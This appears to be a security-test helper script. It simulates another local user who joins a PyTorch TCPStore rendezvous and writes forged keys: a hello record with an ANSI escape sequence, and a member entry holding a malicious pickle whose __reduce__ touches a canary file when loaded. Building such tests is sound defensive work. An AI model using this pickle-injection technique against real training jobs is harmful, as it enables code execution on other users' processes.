"""Another user of this machine, who reaches the store of a run: join it, or overwrite its keys."""

from __future__ import annotations

import encodings.idna  # noqa: F401 - what is imported later is not this user's to read
import json
import os
import pickle
import socket
import sys
import time
from pathlib import Path
from typing import Any

import torch.distributed as dist

NOBODY = 65534


class Trap:
    """Writes a file where it is unpickled."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> tuple[Any, ...]:
        return Path.touch, (Path(self.path),)


def main(port: int, trap: str) -> None:
    pickled = pickle.dumps(Trap(trap))
    os.setgroups([])
    os.setresgid(NOBODY, NOBODY, NOBODY)
    os.setresuid(NOBODY, NOBODY, NOBODY)
    for _ in range(10_000):
        try:
            socket.create_connection(("127.0.0.1", port)).close()
            break
        except OSError:
            time.sleep(0.02)
    plain = dist.TCPStore("127.0.0.1", port, is_master=False, wait_for_workers=False)
    store = dist.PrefixStore("torchcoll/0", plain)
    hello = {"size": 2, "host": "\x1b[31mhere", "random": "0" * 32}
    store.compare_set("hello/1", "", json.dumps(hello))
    store.set("member/1", bytes(32) + pickled)
    sys.stdout.write(f"joined as user {os.getuid()}: {len(plain.list_keys())} keys\n")
    sys.stdout.flush()
    time.sleep(3)


if __name__ == "__main__":
    main(int(sys.argv[1]), sys.argv[2])
